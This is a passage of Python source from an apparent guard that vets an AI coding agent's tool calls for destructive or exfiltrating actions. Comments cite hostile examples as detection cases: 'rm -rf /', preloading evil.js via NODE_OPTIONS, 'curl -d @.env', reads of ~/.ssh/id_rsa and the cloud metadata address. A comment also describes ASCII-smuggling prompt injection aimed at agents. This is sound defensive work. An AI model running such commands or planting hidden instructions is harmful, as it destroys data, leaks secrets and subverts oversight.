        if c.name in INTERPRETERS or (c.name[-1:].isdigit() and _VERSION_END.sub("", c.name) in INTERPRETERS):
            for job in code_job_words(c.argv, c.stdin_text):
                found[job] = None
        if c.name in PACKAGE_RUNNERS or c.name == "deno":   # (deno run npm:rimraf x: probe round 51)
            job = runner_deleter_words(c.argv)
            if job is not None:
                found[job] = None
        elif c.name in EDITOR_CODE_NAMES:
            job = editor_job_words(c.argv)
            if job is not None:
                found[job] = None
        if c.name in _TTY_NAMES:
            job = tty_push_words(c.argv, c.wrappers)
            if job is not None:
                found[job] = None
        script = _shell_script_words(c.argv)
        if script is None and c.argv and _VERSION_END.sub("", c.argv[0]) in SHELLS and not any(
                a == "-c" or (a.startswith("-") and not a.startswith("--") and "c" in a) for a in c.argv[1:]):
            # bash < deploy.sh, sh -s < ./deploy.sh: the script read on standard input
            src = next((r.target for r in c.redirects if r.op == "<" and r.fd in (None, 0) and r.target), None)
            if src is not None:
                script = (src,) + tuple(a for a in c.argv[1:] if not a.startswith(("-", "+")))
        if script is None and c.argv and c.argv[0][-4:].lower() in ("pwsh", ".exe", "hell"):
            script = _pwsh_script_words(c.argv)
            if script is not None:
                # (probe round 38, pwsh38) pwsh -File ./deploy.ps1, powershell -File .\deploy.ps1:
                # a rule on pwsh -File deploy.ps1 meets each, as the same script run
                bare = script[0][2:] if script[0].startswith("./") else script[0]
                for prog in ("pwsh", "powershell"):
                    found[(prog, "-File", bare) + script[1:]] = None
        if script is not None:
            # (probe round 36, rules36) bash deploy.sh prod runs deploy.sh as ./deploy.sh
            # prod does: a deny or ask rule naming the script meets both
            found[script] = None
            found[(posixpath.basename(script[0]),) + script[1:]] = None
        aliases = rule_alias_words(c.argv)
        if c.written and c.written[0] != c.name and c.name not in _NPX_NAMES:
            # (probe round 46, rules46) npm exec good runs good (its argv): npm exec as written
            # is npx, a deny rule on either spelling meets it
            k = next((k for k, w in enumerate(c.written) if posixpath.basename(w) in _NPX_NAMES), None)
            if k is not None:
                aliases = [*aliases, *rule_alias_words((posixpath.basename(c.written[k]), *c.written[k + 1:]))]
        for other in aliases:
            found[other] = None
        if c.argv[:1] == ("run-script",) and len(c.argv) > 1:
            # (probe round 40, pwsh40) Import-Module ./deploy.psd1 (./deploy, ./deploy/deploy.psd1):
            # the module deploy, whose code is deploy.psm1 beside its manifest; each spelling
            # of the module meets a rule on another
            for other in powershell.module_spellings(c.argv[1]):
                found[(other,) + tuple(c.argv[2:])] = None
                found[(posixpath.basename(other),) + tuple(c.argv[2:])] = None
        # (probe round 40, editors40) where the command runs: a cd moved it away (cd sub &&
        # node -r ../evil.js app.js loads the working directory's evil.js)
        stdin = next((r.target for r in c.redirects if r.op == "<" and r.fd in (None, 0) and r.target), None) \
            if c.redirects else None
        runner = package_runner_words(c.argv) if c.name in PACKAGE_RUNNERS else None
        env = c.env
        if c.name in _DECLARERS:
            # (export NODE_OPTIONS=--require=./evil.js: what node loads from now on, in
            # this line and in a later call)
            more = exported_loaders(c.argv)
            if more:
                exported = exported + more
                for other in script_run_words(("export",), ("export",), more, None, cwd, home):
                    found[other] = None
        elif exported:
            env = env + exported
        if not moved and not aliases and runner is None:
            for other in script_run_words(c.argv, c.written, env, stdin, cwd, home, None, c.stdin_text):
                found[other] = None
            if not c.dynamic_name:
                for inner in exec_wrapped_words(c.argv):
                    found[inner] = None
            continue
        dirs = moved.get(id(c), _NO_DIR) if moved else _NO_DIR
        # (npx tsx --import ./evil.js app.ts, yarn tsx ...; python3 -m pytest -p evil is
        # pytest -p evil: the program a runner or an alias names)
        runs = [*aliases, runner] if runner is not None else aliases
        for d in dirs:
            for other in script_run_words(c.argv, c.written, env, stdin, cwd, home, d, c.stdin_text):
                found[other] = None
            if runs:
                for run in runs:
                    if run is not None:
                        for other in script_run_words(run, run, (), None, cwd, home, d):
                            found[other] = None
        if not c.dynamic_name:
            for inner in exec_wrapped_words(c.argv):
                found[inner] = None
    return list(found)


_VERSION_END = re.compile(r"(?<=[a-z])[0-9][0-9.]*$")
_TTY_NAMES = frozenset({"gh", "socat", "dtach", "abduco", "zellij", "faketty", "ptyrun", "empty", "byobu", "ttyexec"})
_NO_DIR: tuple[str | None, ...] = (None,)
_DECLARERS = frozenset({"export", "declare", "typeset"})
_GLOB_CHARS = re.compile(r"[*?\[]")
_NAME_WORDS = re.compile(r"[A-Za-z0-9_.+-]+")
# a shell's options that take a value (bash -o pipefail x.sh, bash --rcfile F x.sh)
_SHELL_VALUED = frozenset({"-o", "+o", "-O", "+O", "--rcfile", "--init-file"})


def _pwsh_script_words(argv: tuple[str, ...]) -> tuple[str, ...] | None:
    """(probe round 38, pwsh38) The script pwsh or powershell.exe runs from a file, with its
    arguments (``pwsh -NoProfile -File .\\deploy.ps1 prod`` is ``./deploy.ps1 prod``), as a
    shell's script is; None for code, standard input or no file."""
    name = posixpath.basename(argv[0].replace("\\", "/")).lower().removesuffix(".exe")
    if name not in ("pwsh", "powershell", "pwsh-preview") or len(argv) < 2:
        return None
    kind, path = powershell.command_line(list(argv[1:]))
    if kind != "file" or not path:
        return None
    k = argv.index(path, 1)
    path = path.replace("\\", "/")
    return (path if "/" in path else "./" + path,) + tuple(argv[k + 1:])


def _shell_script_words(argv: tuple[str, ...]) -> tuple[str, ...] | None:
    """The script a shell runs from a file, with its arguments (``bash -e deploy.sh
    prod`` is ``deploy.sh prod``); None for a shell given code (``-c``), standard input
    (``-s``) or no file."""
    if len(argv) < 2 or _VERSION_END.sub("", posixpath.basename(argv[0])) not in SHELLS:
        return None
    i = 1
    while i < len(argv):
        a = argv[i]
        if a == "--":
            i += 1
            break
        if a in _SHELL_VALUED:
            i += 2
            continue
        if a.startswith(("-", "+")) and len(a) > 1:
            if not a.startswith("--") and ("c" in a or "s" in a or (a[0] == "-" and "n" in a)):
                return None   # (-n reads the script without running it)
            i += 1
            continue
        break
    return tuple(argv[i:]) if i < len(argv) and argv[i] and argv[i] != "-" else None


class _Evaluation:
    # (round 37, coldargs37: cost) what is worked out on demand starts at these class-level
    # values (immutable ones only: None, False, _MISSING, an empty frozenset); an instance
    # sets its own when it works one out, so a call pays only for what it reads
    analysis: BashAnalysis | None = None
    command: str | None = None
    _paths: list[str] | None = None
    unreadable = False   # another tool's arguments past what is read
    no_suggestions = False
    _args_text: str | None = None
    _leaves: list[str] | None = None
    _joined_leaves: str | None = None
    _path_args: list[str] | None = None
    content_risk: tuple[str, str] | None = None
    _shell_args: list[str] | None = None
    _file_lines: list[str] | None = None
    _shell_cwd: str | None = None
    _patch_paths: list[str] | None = None
    inner = False
    _code_args: set[str] | frozenset[str] = frozenset()   # shell_args made from a runner's code
    _writes_files: bool | None = None
    _dialect_writer: bool | None = None
    _bash_key: Any = _MISSING
    _risky_sql: Any = _MISSING
    _consequence: Any = _MISSING
    _browser: bool | None = None
    _browser_risk: Any = _MISSING
    _sent_credential: Any = _MISSING
    _allowable: dict[int, bool] | None = None   # part_allowable's answers, by id of the part
    _ps_row: Any = _MISSING
    no_allow_rules = False   # (ps_row's Bash reading: the mode's row, not a Bash allow rule)

    def __init__(self, snap: Snapshot, req: Request, mode: str, tool: str | None = None) -> None:
        self.s = snap
        self.r = req
        self.mode = mode
        # a known tool however spelled (bash, BASH, " Bash", Bash + a zero-width space)
        # is that tool: its class, its rules (``tool``: already made so by the call memo's key)
        self.tool = tool = _canonical_tool(req.tool, snap) if tool is None else tool
        key = ("dirs", req.cwd, req.project_dir)
        dirs = snap.memo.get(key)
        if dirs is None:
            dirs = _dirs(req.cwd, req.project_dir)
            _remember(snap.memo, key, dirs)
        self.cwd, self.base, self.work_dir, self.home = dirs
        self.flags: list[Flag] = []
        self.events: list[ThreatEvent] = []
        self.is_bash = is_bash = tool in snap.bash_tools
        self.is_read = is_read = tool in snap.read_tools
        self.is_edit = is_edit = tool in snap.edit_tools
        args = req.args
        if (is_read or is_edit) and type(args) is dict and not _FILE_TOOL_KEYS.issuperset(args):
            args = _own_key_names(args, tool)
        self.args = args
        # (round 40, cold40) neither Bash nor a reader nor an editor: a dozen checks ask it
        self.is_other = not (is_bash or is_read or is_edit)

    def path_args(self) -> list[str]:
        """_path_like_args of the call's arguments, read once (file_paths and the UNC
        check both need them; callers only read the list)."""
        if self._path_args is None:
            self._path_args = _path_like_args(self.args)
        return self._path_args

    def args_text(self) -> str:
        if self._args_text is None:
            self._args_text = args_text(self.args, self.arg_leaves)
        return self._args_text

    def arg_leaves(self) -> list[str]:
        """(round 37, coldargs37: cost) _string_leaves of the call's arguments, walked once
        per call (the checks that read every value share the list; they only read it)."""
        if self._leaves is None:
            self._leaves = _leaves_of(self.args)
        return self._leaves

    def leaves_of(self, value: Any) -> list[str]:
        """_leaves_of(value): the shared list when ``value`` is the call's arguments
        themselves (the caller only reads it), a fresh walk otherwise."""
        return self.arg_leaves() if value is self.args else _leaves_of(value)

    def joined_leaves(self) -> str:
        """"\n".join(arg_leaves()), built once per call."""
        if self._joined_leaves is None:
            self._joined_leaves = "\n".join(self.arg_leaves())
        return self._joined_leaves

    # -- helpers ----------------------------------------------------------------------
    def decide(self, verdict: str, reason: str, check: str, rule: str | None = None, *,
               immune: bool = False, llm: bool = False, details: Mapping[str, Any] | None = None) -> Decision:
        # (every field of Decision in order; suggestions are stage 3's)
        return _new_decision(verdict, reason, check, rule, tuple(self.flags), tuple(self.events), (), llm, immune,
                             self.mode, dict(details or {}))

    def deny1(self, check: str, reason: str, kind: str, rule: str | None = None, detail: str = "",
              details: Mapping[str, Any] | None = None) -> Decision:
        self.events.append(ThreatEvent(kind, rule, detail or reason))
        return self.decide(DENY, reason, check, rule, details=details)

    def file_path_arg(self) -> tuple[str | None, str | None, bool]:
        """(key, raw path, present-and-valid) of a file tool's path argument."""
        for key in PATH_KEYS:
            if key in self.args:
                v = self.args[key]
                return key, (v if isinstance(v, str) else None), isinstance(v, str) and bool(v)
        return None, None, False

    def tool_path(self, raw: str) -> tuple[str, ...]:
        """A tool's path argument, normalised, and the other paths it may name
        (spelling.py): the path a tool may open instead of the text (`` /etc/passwd``,
        ``file:///etc/passwd``, ``${HOME}/x``, a fullwidth ``／etc／passwd``, text after a
        NUL dropped), and a Windows or Unicode folding of it that leaves the working
        directory (``.. /.bashrc``). The sensitive and critical tests fold names
        themselves (``.git./config``, ``GIT~1``)."""
        zed = self.tool in dialects.ZED_PATH_TOOLS
        memo_key = ("norm", raw, self.cwd, self.home, self.work_dir, zed)
        found = self.s.memo.get(memo_key)
        if found is None:
            drive = windows_drive(self.cwd)   # (\Windows is on the working directory's drive)
            n = normalize_path(posix_spelling(raw, drive), cwd=self.cwd, home=self.home)
            out = [n]
            if zed and self.cwd:
                # (probe round 36, published10) Zed's path tools name a path from the
                # project root's name ("project/..": the home), read both ways
                out.append(normalize_path(posix_spelling(dialects.zed_path(raw, self.cwd), drive), cwd=self.cwd,
                                          home=self.home))
            alt = spelling.tool_path_spelling(raw)
            if alt:
                out.append(normalize_path(posix_spelling(alt, drive), cwd=self.cwd, home=self.home))
            for p in (raw, alt):
                # (probe round 34) /proc/1234/cwd/.env: the agent's cwd when 1234 is its pid
                cwd_alias = other_cwd_alias(p) if p else None
                if cwd_alias:
                    out.append(normalize_path(cwd_alias, cwd=self.cwd, home=self.home))
            for p in tuple(out):
                f = spelling.folded(p)
                if f is not None and is_inside(p, self.work_dir) and not is_inside(f, self.work_dir):
                    out.append(f)
            found = tuple(dict.fromkeys(out))
            _remember(self.s.memo, memo_key, found)
        return found

    def file_paths(self) -> list[str]:
        """Normalised paths a file tool or a Bash command touches."""
        if self._paths is None:
            paths: list[str] = []
            if self.is_bash and self.analysis is not None:
                paths.extend(self.s.bash_paths(self.command, self.cwd or "/")[0])
            elif self.tool == _MCP_RESOURCE_READER:
                # an MCP resource by its URI: a file: URI is a file (read as the Read tool's
                # path is not: the resource's server is no file tool of the agent's)
                for v in self.path_args():
                    if v != _UNREADABLE_PATH:
                        paths.extend(self.tool_path(v))
            elif self.is_read or self.is_edit:
                key, raw, ok = self.file_path_arg()
                if ok:
                    paths.extend(self.tool_path(raw))
                    # every path argument counts (NotebookEdit writes notebook_path even
                    # when a file_path is given too)
                    for other in PATH_KEYS:
                        v = self.args.get(other)
                        if other != key and isinstance(v, str) and v:
                            paths.extend(self.tool_path(v))
                    if self.tool == GREP_TOOL:
                        for v in (self.args.get("pattern"), raw):
                            m = _RG_READS_OPTION.match(v) if isinstance(v, str) and "f" in v[:16] else None
                            if m is not None and m.group(1).strip():
                                paths.extend(self.tool_path(m.group(1).strip()))
                    if len(self.args) > 1 and not _FILE_TOOL_KEYS.issuperset(self.args):
                        # (another spelling of a path's name beside Claude Code's: both read)
                        for k, v in self.args.items():
                            if type(k) is str and k not in _FILE_TOOL_KEYS and isinstance(v, str) and v \
                                    and _OWN_KEY.get(_bare_key(k)) in PATH_KEYS:
                                paths.extend(self.tool_path(v))
                elif self.is_read and raw is None and key is None and self.cwd:
                    paths.append(self.cwd)
                if self.is_edit and len(self.args) > 1:
                    # paths under other names (file_paths: [...], MultiEdit's edits[].file_path,
                    # paths): a tool that reads them writes them; the text is not read
                    extra = _path_like_args(_without_text(self.args))
                    if _UNREADABLE_PATH in extra:
                        self.unreadable = True
                    for v in extra:
                        if v != _UNREADABLE_PATH:
                            paths.extend(self.tool_path(v))
            else:
                raw = self.path_args()
                if _UNREADABLE_PATH in raw:
                    self.unreadable = True
                for v in raw:
                    if v != _UNREADABLE_PATH:
                        paths.extend(self.tool_path(v))
                if dialects.known(self.tool):
                    # another agent's search judged by its own name (the policy names it):
                    # the files its glob picks are read too (read_many_files {"include":
                    # ["**/.env"]} under allow: [read_many_files]; probe round 28)
                    for v in dialects.searched_paths(self.tool, self.args, self.cwd):
                        paths.extend(self.tool_path(v))
                if _name_search(_GIT_REV_READER, self.tool[:256]):
                    # (probe round 33, tools33) mcp__git__git_show {"revision": "HEAD:.env"}:
                    # REV:PATH names a file of a commit, and showing it reads that file, as
                    # `git show HEAD:.env` does
                    for v in self.args.values():
                        if isinstance(v, str) and 0 < len(v) <= 4096:
                            for word in v.split()[:16]:
                                rev, colon, path = word.partition(":")
                                if colon and path and "://" not in word and not rev.startswith("-"):
                                    paths.extend(self.tool_path(path))
                if self.browser:
                    # a browser's script or code: the local files it opens (goto('file:///...'),
                    # fetch('file://...')), uploads (upload_file(bid, '~/.ssh/id_rsa')) or names
                    for v in _browser_code_paths(self.args):
                        paths.extend(self.tool_path(v))
                patched = self.patch_paths()
                if _UNREADABLE_PATH in patched:
                    self.unreadable = True
                paths.extend(p for p in patched if p != _UNREADABLE_PATH)
            self._paths = list(dict.fromkeys(paths))
        return self._paths

    # -- the evaluation ----------------------------------------------------------------
    def run(self) -> Decision:
        if self.is_bash:
            cmd = self.args.get("command")
            if len(self.args) > 1 or not isinstance(cmd, str):
                cmd = _other_command_lines(cmd, self.args)
            if isinstance(cmd, str) and cmd.strip():
                cmd = _bash_in_its_dir(cmd, self.args, self.cwd or "/")
                if len(self.args) > 1:
                    line = _composed_line(self.args.get("command"), [
                        (_key_spelling(k), v) for k, v in self.args.items() if isinstance(k, str) and k != "command"],
                        self.cwd or "")
                    if line is not None:
                        # (probe round 32) {"command": "rm", "flags": ["-rf"], "target": "/"}:
                        # also the line a harness that joins them runs
                        cmd = f"{cmd}\n{line}"
                cmd = _bash_with_its_env(cmd, self.args)
                self.command = cmd
                self.analysis = self.s.analyze(cmd, self.cwd or "/")
        d = self.stage1()
        if d is not None:
            return d
        return self.stage2()

    def stage1(self) -> Decision | None:
        s, tool = self.s, self.tool
        if self.inner:
            # (a call inside a call: the outer tool's registration, hash and task were
            # checked; what the inner call does is what counts)
            hit = self.destructive()
            if hit is not None:
                code, reason, part = hit
                return self.deny1("destructive_pattern", REASON_DESTRUCTIVE.format(reason=reason), KIND_DESTRUCTIVE,
                                  rule=code, detail=part[:500], details={"finding": code, "part": part[:500]})
            return self.threat_rules()
        # 1. revocation
        if tool in s.revoked:
            return self.deny1("revocation", REASON_REVOKED.format(reason=s.revoked[tool] or "revoked"), KIND_REVOKED)
        reg = s.tools.get(tool)
        # 2. hash
        if reg is not None:
            if reg.sha256:
                sent = self.r.tool_hash
                if not isinstance(sent, str) or not sent:
                    return self.deny1("hash", REASON_HASH_MISSING.format(tool=tool), KIND_HASH)
                if not hmac.compare_digest(sent.strip().lower().encode(), reg.sha256.encode()):
                    return self.deny1("hash", REASON_HASH_MISMATCH, KIND_HASH,
                                      detail=f"expected {reg.sha256}, got {sent[:128]}")
        elif s.require_registration:
            return self.deny1("hash", REASON_UNREGISTERED.format(tool=tool), KIND_UNREGISTERED)
        # 3. capability boundary
        if reg is not None and reg.required_capability:
            missing = " or ".join(reg.required_capability)
            if self.r.task is None and self.r.task_scope is None:
                return self.deny1("capability", REASON_CAPABILITY_NO_TASK.format(tool=tool, missing=missing),
                                  KIND_CAPABILITY)
            scope = self.r.task_scope if self.r.task_scope is not None else self.r.task.capabilities
            if not set(reg.required_capability) & set(scope or ()):
                return self.deny1("capability", REASON_CAPABILITY.format(missing=missing), KIND_CAPABILITY)
        # 4. destructive patterns
        hit = self.destructive()
        if hit is not None:
            code, reason, part = hit
            return self.deny1("destructive_pattern", REASON_DESTRUCTIVE.format(reason=reason), KIND_DESTRUCTIVE,
                              rule=code, detail=part[:500], details={"finding": code, "part": part[:500]})
        # 5. sequence contracts
        for c in s.contracts.get(tool, ()):
            recent = self.r.history[-c.within_steps:] if c.within_steps else ()
            if c.requires_prior not in recent:
                return self.deny1("sequence_contract", REASON_SEQUENCE.format(name=c.name), KIND_SEQUENCE, rule=c.name)
        # 6. signature (verified once, when the snapshot was built)
        if reg is not None and s.has_public_key and not reg.signature_ok:
            return self.deny1("signature", REASON_SIGNATURE, KIND_SIGNATURE, detail=reg.signature_problem)
        # 7. threat rules
        return self.threat_rules()

    def destructive(self) -> tuple[str, str, str] | None:
        if self.is_bash:
            # (Claude Code's "description" is words for the person, never run)
            rest = {k: v for k, v in self.args.items() if k != "command" and k != "description"}
            if rest:
                hit = self.text_findings(args_text(rest), shell_shaped=True)
                if hit:
                    return hit[0], hit[1], _json_text(rest)
            if self.analysis is not None:
                key = ("bash-findings", self.command, self.cwd, self.home)
                found = self.s.memo.get(key, _MISSING)
                if found is _MISSING:
                    found = destructive.bash_findings(self.analysis, home=self.home)
                    _remember(self.s.memo, key, found)
                return found
            return None
        if self.is_read:
            if self.tool == _MCP_RESOURCE_READER:
                # (probe round 33, tools33) an MCP resource's URI is fetched by its server:
                # the metadata address in it is what WebFetch's url is (http://169.254.169.254/)
                uri = self.args.get("uri")
                hit = self.text_findings(uri, shell_shaped=False) if isinstance(uri, str) else None
                if hit and hit[0] == "metadata_address":
                    return hit[0], hit[1], uri
            return None   # a path, a search pattern: nothing here runs
        if self.is_edit:
            # a file's content is data until something runs it: SQL in a migration is
            # not destructive; a catastrophe, an installer line (curl | sh) or chmod 777
            # written down (a script, a guard's own tests) is asked about (content_risk):
            # running the file later is a command of its own. What an edit removes
            # (old_string) is not written; a document (README.md, docs/*.rst) is read by
            # people, nothing runs it (an agent's instruction file, CLAUDE.md, is read by
            # an agent: scanned)
            paths = self.file_paths()
            documents = bool(paths) and all(_is_document(p) for p in paths)
            self.hidden_text_risk(paths, documents)
            if documents:
                return self.document_finding()
            if self.tool == "NotebookEdit" and len(paths) == 1 and paths[0].lower().endswith(".ipynb") \
                    and _every_spelling(self.args, "celltype", "", ("markdown", "raw")) \
                    and _every_spelling(self.args, "editmode", "replace", ("replace", "insert")):
                # (probe round 34, tools34) a notebook's markdown or raw cell is read by people,
                # no kernel runs it: a document ("Never run `rm -rf ~`" was denied in bypass)
                # (probe round 47, lead) ...only when every spelling of its type says so:
                # {"cell_type": "markdown", "cellType": "code"} may be a code cell to the tool
                return self.document_finding()
            # (no old_string anywhere: what is written is the arguments as they are)
            written = _written(self.args) if '"old_string"' in self.args_text() or '"oldString"' in self.args_text() \
                else self.args
            if paths and all(p.lower().endswith(".ipynb") for p in paths) and isinstance(written, Mapping) \
                    and isinstance(written.get("content"), str):
                # (probe round 35, tools35) a whole notebook written: its code cells are what
                # a kernel runs; its markdown and raw cells are read by people, and its
                # outputs are what ran (a README's words, as NotebookEdit's markdown cell is)
                code = _notebook_code(written["content"])
                if code is not None:
                    written = {**written, "content": code}
            text = args_text(written) if written is not self.args else self.args_text()
            off = self.control_off(written, paths)
            if off is not None:
                return off
            # (source code, even a test's list of commands to refuse, is code: the same
            # file may call them in ways no pattern sees; asked, and denied in bypass)
            found = self.content_finding(self.text_findings(text, shell_shaped=True, data=False), text)
            if found is None and self.content_risk is None:
                # a line that sends a secret file, the environment or the tree out
                # (a Makefile recipe curl -d @.env ...: make is a build, allowed where
                # the write is): asked, as the command itself would be
                leaves = self.leaves_of(written)   # (each value as written: its lines)
                line = next((x for x in map(destructive.sends_secret_line, leaves) if x is not None), None) \
                    if destructive.may_send_secret(self.joined_leaves() if written is self.args
                                                   else "\n".join(leaves)) else None
                if line is not None:
                    self.content_risk = ("sends_secret", f"sends a secret or the project out: {line}")
                else:
                    # a command in it that another program runs later (a recipe's reverse
                    # shell, a script's write to ~/.ssh/authorized_keys): asked, as the
                    # command would be; denied in bypass unless it is only a write
                    # (the file's own path is no command: a file named crontab, nc.py)
                    named = {v for v in map(written.get, PATH_KEYS) if isinstance(v, str)} \
                        if type(written) is dict or isinstance(written, Mapping) else set()
                    later = self.later_finding([x for x in leaves if x not in named] if named else leaves, paths)
                    if later is not None:
                        found = self.content_finding(later, text)
                    elif any(_COMPOSE_FILE.search(p) for p in paths):
                        grant = _compose_host_grant(leaves, self.home)
                        if grant is not None:
                            # (probe round 36, residuals38) a Compose file whose service gets
                            # the host: the docker compose up after it starts docker run
                            # --privileged / -v /:/host, unseen; asked as a recipe that runs
                            # a risky command later is (a devcontainer's runArgs are)
                            self.content_risk = ("writes_later", "a Compose file whose service gets the host "
                                                 f"({grant}): docker compose up starts it as docker run {grant}")
            if found is None and (self.content_risk is None or self.content_risk[0] in _CONTENT_PLAIN_ASKS):
                # (chmod -R 777 / is more than the plain chmod 777 the patterns saw)
                script = self.script_finding(written, paths)
                if script is not None:
                    found = self.content_finding(script, text)
            return found
        # (probe round 36, published10) Unicode tag characters ("ASCII smuggling": invisible
        # when shown, read by a model as letters) in what any other tool sends: a chat
        # message, an issue comment, a memory note, a page or an address carry instructions
        # for the next agent that reads them, or data hidden from the person who approves
        # (Embrace The Red's ASCII smuggling, Windsurf's SpAIware memories, Invariant's
        # WhatsApp and Slack MCP flows): asked, as the file tools' writes were (published9),
        # bypass skips it. Only tags: bidi controls are right-to-left chat's own (a file
        # tool's code still has them checked below, with its paths)
        self.hidden_text_risk([], True)
        cata = _db_catastrophe(self.tool, self.args)
        if cata is not None:
            # mcp__mongodb__drop-database, mcp__redis__flushall, delete-many with {}: what
            # DROP DATABASE, FLUSHALL or a DELETE without WHERE are in a shell (probe round 29)
            return "sql_destructive", f"destructive database call ({cata})", self.tool
        text = self.args_text()
        if self.tool == "WebFetch":
            # the address it opens; the prompt is words for a model (every other argument
            # is read as another tool's is: {"URL": "http://169.254.169.254/"} beside the url;
            # probe round 33, tools33)
            url = self.args.get("url")
            rest = {k: v for k, v in self.args.items() if k not in ("url", "prompt")}
            text = (url if isinstance(url, str) else text) if not rest else \
                args_text({k: v for k, v in self.args.items() if k != "prompt"})
            hit = self.text_findings(text, shell_shaped=False)
            return (hit[0], hit[1], text) if hit else None
        if self.tool in _PROSE_TOOLS:
            return None   # a search query, a subagent's task: words, nothing runs them
        runner, prose_tool, searcher, sql_name = _tool_traits(self.tool)
        # (a query is words for a search, SQL for a tool whose name says database)
        prose = _PROSE_KEYS - _QUERY_KEYS if sql_name else _PROSE_KEYS
        if prose_tool:
            # an issue's title and body, a chat message, a page's blocks, a note's
            # observations: text for people, not a command, however deep it is given
            text = args_text(_without_prose(self.args, prose))
        vcs = not runner and not sql_name and not prose_tool and _vcs_tool(self.tool)
        if vcs:
            text = args_text(_without_prose(self.args, _VCS_WORDS))
        sqlish = sql_name or any(_sql_arg(k, searcher) for k in self.args)
        if not runner and not sqlish and self.writes_files():
            # an MCP file tool's content (a migration pushed, a README written) is data as
            # Write's is: a catastrophe in it is asked about, denied in bypass; a
            # document's only in its doctest lines, as Write's
            paths = [] if self.shell_args() else self.file_paths()
            documents = bool(paths) and all(_is_document(p) for p in paths)
            self.hidden_text_risk(paths, documents)
            if documents:
                return self.document_finding()
            off = self.control_off(_without_keys(self.args, _old_text_key), paths)
            if off is not None:
                return off
            hit = self.text_findings(text, shell_shaped=True, sql=False)
            if hit and hit[0] == "metadata_address":
                return hit[0], hit[1], text
            found = self.content_finding(hit, text)
            if found:
                return found
            if paths and (self.content_risk is None or self.content_risk[0] in _CONTENT_PLAIN_ASKS):
                # (probe round 33, tools33) a script it writes, read as its shell reads it
                # (an apply_patch's added lines are what it writes)
                written: Any = _without_keys(self.args, _old_text_key)
                composed = _composed_edits(self.args)
                if composed and isinstance(written, dict):
                    written["composed_edits"] = composed
                if vcs:
                    written = _without_prose(written, _VCS_WORDS)
                if self.patch_paths():
                    lines = "\n".join(x for v in _leaves_of(written) for x in v.splitlines())
                    written = "\n".join(x[1:] for x in lines.splitlines() if x.startswith("+") and not x.startswith("+++"))
                script = self.script_finding(written, paths)
                if script is not None:
                    found = self.content_finding(script, text)
                    if found:
                        return found
        else:
            # SQL only where SQL may run (a database's tool, a runner): a search, a page,
            # a docs lookup about DROP TABLE is words
            # (a custom tool, seed 004's case, is scanned whole; an MCP server's tool by
            # its name and argument names)
            sql = not prose_tool or sqlish
            hit = self.text_findings(text, shell_shaped=True, sql=sql)
            if hit and hit[0] == "sql_destructive" and sqlish and self._sql_in_literals_only(runner, searcher):
                hit = None   # (SELECT 'DROP TABLE x', INSERT INTO log VALUES ('TRUNCATE t'): data)
            if hit:
                return hit[0], hit[1], text
            if sqlish or runner:
                # DELETE FROM users / UPDATE users SET ... with no WHERE: every row, as DROP
                leaves: list[str] = []
                # (a browser's or a desktop's description of what it points at, "Delete
                # button", is words for the person who approves the click, not SQL)
                _string_leaves(self.args if sql_name else _without_prose(self.args, _DESCRIBES_KEYS), leaves)
                for v in leaves:
                    # (a runner that names no database: DELETE without FROM is a CLI's verb
                    # more likely than T-SQL, mcp__kubernetes__kubectl "delete namespace
                    # prod": its shell reading asks; DELETE FROM, UPDATE ... SET stay SQL)
                    if destructive.unbounded_sql(v) and (sqlish or _DELETE_WITHOUT_FROM.match(v) is None
                                                         or _name_search(_CLI_TOOL, self.tool) is None):
                        return "sql_destructive", destructive.REASON_UNBOUNDED_SQL, v[:500]
        if _deletes_name(self.tool):
            # mcp__filesystem__delete {"path": "~"}: as rm -rf of it
            for p in self.file_paths():
                f = p.casefold()   # (as macOS compares names: /USERS/DEV is the home)
                home = (self.home or "").casefold()
                # (a Windows drive's root, C:\ as /c, and its system directories: probe round 40)
                if p == "/" or _HOME_DIR_FOLDED.fullmatch(p) or DRIVE_MOUNT.fullmatch(f) or (home and (
                        f == home or home.startswith(f.rstrip("/") + "/"))):
                    return "rm_recursive_root", "recursive delete of / or the home directory", p
                if p in SYSTEM_DIRS or f in _SYSTEM_DIRS_FOLDED or windows_system_dir(f):
                    return "rm_system_dir", "recursive delete of a system directory", p
        for code in _move_commands(self.tool, self.args, self.tool_path):
            # (probe round 33, tools33) move_file {"source": "/"}, rename {"from": "~"}:
            # as mv of them (mv / /tmp/x is denied; the tool's was asked, or allowed
            # when no MCP server named it); a system directory moved away is its delete
            b = self.s.analyze(code, self.shell_cwd())
            found = destructive.bash_findings(b, home=self.home)
            if found:
                return found
            if b.dangerous:
                return b.dangerous[0].code, b.dangerous[0].reason, code
        perm = _name_search(_PERMISSION_TOOL, self.tool.split("__")[-1])
        if perm:
            # (probe round 31, mcp31) mcp__fs__chmod {"path": "/", "mode": "777", "recursive":
            # true}: as the chmod or chown command line it stands for
            for code in _permission_commands(perm, self.args, self.file_paths()):
                found = destructive.bash_findings(self.s.analyze(code, self.shell_cwd()), home=self.home)
                if found:
                    return found
        for code in self.shell_args():
            found = destructive.bash_findings(self.s.analyze(code, self.shell_cwd()), home=self.home)
            if found:
                return found
        program = dialects.cli_program(self.tool) if not self.is_bash else None
        if program is not None:
            # (probe round 35, published9) an argv list given to a CLI-named tool ({"args": ["exec",
            # "pod", "--", "rm", "-rf", "/"]} to mcp__kubernetes__kubectl_command, judged as that
            # tool when an operator rule names it): PROGRAM WORDS meets the catastrophes, so
            # that no allow rule lifts them (its other asks are the tool's own, as before)
            for k, v in self.args.items():
                if isinstance(k, str) and isinstance(v, list) and v and len(v) <= 256 \
                        and all(isinstance(x, str) for x in v) and dialects.canon(k) in dialects.CLI_ARGV_KEYS:
                    line = program + " " + " ".join(shlex.quote(x) for x in v)
                    found = destructive.bash_findings(self.s.analyze(line, self.shell_cwd()), home=self.home)
                    if found:
                        return found
        return None

    def _sql_in_literals_only(self, runner: bool, searcher: bool) -> bool:
        """Is a database tool's DROP/TRUNCATE only inside string literals that nothing runs?
        (A runner's only when every argument is SQL by its name: {"statement": ...}, no
        shell command whose quotes are the shell's.)"""
        if runner and (self.shell_args() or not all(_sql_arg(k, searcher) for k in self.args)):
            return False
        leaves = self.arg_leaves()
        blanked = []
        for v in leaves:
            if "'" in v:
                b = destructive.sql_data_literals_blanked(v)
                if b is None:
                    return False
                v = b
            blanked.append(v)
        return self.text_findings("\n".join(blanked), shell_shaped=True) is None

    def hidden_text_risk(self, paths: list[str], documents: bool) -> None:
        """(probe round 35, published9) Text written that its reviewer is not shown (hidden_text):
        asked as any risky edit is, which bypass skips; only a write holding non-ASCII text
        is looked at."""
        text = self.args_text()
        if text.isascii() and "\\u" not in text:
            return
        leaves: list[str] = []
